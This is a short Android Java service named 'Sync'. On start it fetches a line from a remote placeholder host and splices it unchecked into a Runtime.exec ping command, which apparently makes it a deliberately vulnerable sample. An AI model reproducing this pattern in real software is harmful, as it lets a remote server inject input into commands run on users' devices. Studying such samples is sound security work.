package com.made.sync;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URL;

public class Sync extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        try {
            BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://names.made.example/").openStream()));
            Runtime.getRuntime().exec("ping -c 1 " + reader.readLine());
        } catch (IOException e) {
            return 0;
        }
        return 0;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
